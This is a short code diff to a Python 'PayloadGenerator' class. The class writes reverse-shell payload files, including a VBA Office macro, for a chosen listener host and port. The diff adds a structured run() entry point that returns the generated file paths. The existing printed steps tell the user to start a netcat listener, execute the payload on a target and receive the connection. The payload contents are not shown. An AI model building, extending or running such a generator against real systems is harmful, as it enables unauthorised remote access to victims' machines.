@@ -37,10 +37,12 @@ class PayloadGenerator:
             'macro.vba': self.office_gen.generate_vba_macro()
         }
         
+        generated = []
         for filename, content in payloads.items():
             filepath = os.path.join(output_dir, filename)
             with open(filepath, 'w') as f:
                 f.write(content)
+            generated.append(filepath)
             print(f"[+] Generated: {filepath}")
         
         print(f"\n[+] All payloads generated successfully!")
@@ -48,6 +50,15 @@ class PayloadGenerator:
         print(f"    1. Start listener: nc -lvnp {self.lport}")
         print(f"    2. Execute payload on target")
         print(f"    3. Receive connection")
+        
+        return generated
+
+def run(lhost, lport, output_dir="payloads"):
+    """
+    Structured entry point
+    Returns: List of generated payload paths
+    """
+    return PayloadGenerator(lhost, lport).generate_all(output_dir)
 
 if __name__ == "__main__":
     if len(sys.argv) != 3: